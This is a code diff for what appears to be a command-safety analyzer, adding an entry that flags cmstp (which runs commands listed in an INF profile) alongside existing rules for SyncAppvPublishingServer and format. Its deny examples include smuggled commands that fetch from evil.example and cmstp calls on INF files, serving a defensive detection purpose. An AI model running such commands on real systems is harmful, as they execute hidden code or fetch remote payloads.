@@ -471,6 +471,15 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     examples: { deny: [ps('SyncAppvPublishingServer.exe "n;iwr evil.example"'), ps('SyncAppvPublishingServer "n; curl.exe evil.example"')], pass: [ps('SyncAppvPublishingServer.exe "n;Get-Date"')] },
   },
   {
+    names: ['cmstp'],
+    summary: 'cmstp: installs a Connection Manager profile from an INF file, whose sections run commands no static reading sees; /? prints help',
+    analyze: (call) => {
+      const w = call.args.find((a) => !help(a) && !/^[-/][a-z]+$/i.test(value(a) ?? ''));
+      return w ? { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: w, why: `cmstp runs the commands the profile ${w.text} lists` }] } : {};
+    },
+    examples: { deny: [ps('cmstp /ni /s x.inf'), ps('cmstp.exe /au C:\\tmp\\x.inf')], pass: [ps('cmstp /?')] },
+  },
+  {
     names: ['format'],
     summary: 'format (format.com): formats the volume it is given, erasing everything on it; `/?` prints help',
     analyze: (call) => {
